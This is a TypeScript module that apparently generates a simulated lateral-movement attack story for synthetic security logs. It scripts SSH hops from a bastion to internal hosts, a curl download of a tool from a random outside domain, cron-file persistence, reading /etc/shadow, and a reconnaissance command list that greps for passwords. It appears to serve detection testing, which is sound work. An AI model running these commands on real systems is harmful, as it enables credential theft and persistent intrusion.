import { touch } from "../events/file-event.ts";
import { connect } from "../events/network-event.ts";
import type { Host } from "../hosts.ts";
import type { Person } from "../people.ts";
import { downloadPath, hiddenPath, strangeDomain } from "../props.ts";
import { staffAccount } from "../routine/admin-sessions.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { openSession, sudo, type } from "../ssh-session.ts";
import type { Origin, Session } from "../ssh-session.ts";
import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
import { asRoot } from "../unix-account.ts";
import { cleanHost } from "./response.ts";
import { castHost, castPerson, factsOf, momentOf, tell } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly bastion: Host;
  readonly middle: Host;
  readonly last: Host;
  readonly person: Person;
  readonly ip: string;
  readonly dropName: string;
  readonly dropIp: string;
  readonly script: string;
  readonly tool: string;
  readonly cronFile: string;
}

/** A person's SSH key, used by somebody else, goes from the bastion to one machine and on to the next. */
export function lateralMovement(options: StoryOptions): Story {
  const { world, random, start } = options;
  const cast: Cast = {
    bastion: castHost(options, world.hostsOf("bastion")),
    middle: castHost(options, [...world.hostsOf("api"), ...world.hostsOf("worker")]),
    last: castHost(options, [...world.hostsOf("database"), ...world.hostsOf("cache")]),
    person: castPerson(options, "operations", "developer"),
    ip: strangerAddress(random),
    dropName: strangeDomain(random),
    dropIp: strangerAddress(random),
    script: downloadPath(random),
    tool: hiddenPath(random),
    cronFile: `/etc/cron.d/${random.pick(["sysstat2", "popularity", "e2scrub", "mdcheck", "ntpsync", "logwatch0"])}`,
  };
  const middleAt = start + random.int(15, 240) * MINUTE_MS;
  const lastAt = middleAt + random.int(1, 9) * HOUR_MS;
  const { bastion, middle, last, person, ip, tool, cronFile } = cast;
  return tell(options, {
    id: "lateral-movement",
    kind: "attack",
    platforms: ["linux"],
    rootCause: `${ip} logged in on ${bastion.name} with the key of ${person.login}`,
    chapters: [
      {
        name: "bastion",
        start,
        deed: `${ip} came to ${bastion.name} as ${person.login}`,
        facts: factsOf(["address", ip], ["host", bastion.name], ["user", person.login]),
        perform: (stage) => enter(stage, cast),
      },
      {
        name: "middle",
        start: middleAt,
        deed: `went on to ${middle.name}, where ${cronFile} starts ${tool}`,
        facts: factsOf(
          ["host", middle.name],
          ["address", bastion.address],
          ["tool", tool],
          ["object", cronFile],
          ["time", momentOf(middleAt)],
        ),
        perform: (stage) => settle(stage, cast),
      },
      {
        name: "last",
        start: lastAt,
        deed: `and from there to ${last.name}`,
        facts: factsOf(["host", last.name], ["address", middle.address]),
        perform: (stage) => take(stage, cast),
      },
    ],
    response: cleanHost({
      host: middle,
      lines: [`rm -f ${cronFile} ${tool}`, `pkill -KILL -u ${person.login}`],
    }),
  });
}

const LOOKS =
  "id;w;ip route;ss -tn;cat /etc/hosts;ls -la /home;last -n 40;env;ps aux;cat .bash_history;ls -la .ssh;getent passwd;arp -n;df -h;uname -a;systemctl list-units;find /opt -name *.conf;grep -ri password /opt/app/conf;ls /srv;crontab -l;mount;history;cat .ssh/known_hosts;journalctl -n 50".split(
    ";",
  );

function* comeIn(
  scene: Scene,
  { person, origin }: { person: Person; origin: Origin },
): Script<Session> {
  const session = yield* openSession(scene, staffAccount(scene, person), {
    method: "publickey",
    ...origin,
  });
  for (const line of scene.random.sample(LOOKS, scene.random.int(14, 20))) {
    wait(scene, 2000, 50_000);
    yield* type(scene, session, line);
  }
  return session;
}

function* enter(stage: Stage, { bastion, middle, person, ip }: Cast): Script {
  const scene = atHost(stage, bastion);
  const session = yield* comeIn(scene, { person, origin: { srcIp: ip, isCause: true } });
  wait(stage, 10_000, 90_000);
  yield* hop(scene, session, middle);
}

/**
 * The machine where it starts; what the other one saw is told there.
 * @yields the start of ssh and its connection
 */
function* hop(scene: Scene, session: Session, { address: ip, name }: Host): Script {
  const argv = ["ssh", name];
  const process = yield* type(scene, session, argv.join(" "));
  const socket = { as: session.as, process, argv, parent: session.shell };
  yield connect(scene, { ...socket, remote: { ip, port: 22 } });
}

function* settle(stage: Stage, cast: Cast): Script {
  const { middle, last, bastion, person, dropName, dropIp, script, tool, cronFile } = cast;
  const scene = atHost(stage, middle);
  const session = yield* comeIn(scene, { person, origin: { srcIp: bastion.address } });
  const line = `curl -fsSL https://${dropName}${script} -o ${tool}`;
  const curl = yield* type(scene, session, line);
  const socket = { as: session.as, process: curl, argv: line.split(" "), parent: session.shell };
  yield connect(scene, { ...socket, remote: { ip: dropIp, port: 443, domain: dropName } });
  yield* type(scene, session, `chmod 755 ${tool}`);
  wait(stage, 4000, 40_000);
  yield* sudo(scene, session, tool);
  const argv = ["tee", cronFile];
  const tee = yield* sudo(scene, session, argv.join(" "));
  const root = asRoot(session.as);
  yield touch(scene, { as: root, process: tee, argv, filename: cronFile, action: "create" });
  wait(stage, 10_000, 90_000);
  yield* hop(scene, session, last);
}

function* take(stage: Stage, { middle, last, person }: Cast): Script {
  const scene = atHost(stage, last);
  const session = yield* comeIn(scene, { person, origin: { srcIp: middle.address } });
  const filename = "/etc/shadow";
  const cat = yield* sudo(scene, session, `cat ${filename}`);
  const argv = ["cat", filename];
  const root = asRoot(session.as);
  yield touch(scene, { as: root, process: cat, argv, filename, action: "open" });
  for (const line of ["tar cz /etc/app", "ls -la /var/lib", "redis-cli info", "psql -l", "id"]) {
    wait(stage, 5000, 60_000);
    yield* type(scene, session, line);
  }
}
